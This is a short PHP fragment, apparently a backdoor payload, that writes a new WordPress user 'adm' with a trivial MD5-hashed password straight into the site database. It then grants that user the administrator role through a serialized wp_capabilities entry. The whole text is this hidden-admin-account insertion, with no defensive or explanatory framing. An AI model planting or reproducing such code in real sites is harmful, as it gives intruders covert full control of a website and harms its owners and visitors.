<?php
$db->query("INSERT INTO wp_users (user_login, user_pass) VALUES ('adm', MD5('x'))");
$db->query("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:\"administrator\";s:1:\"1\";}')");
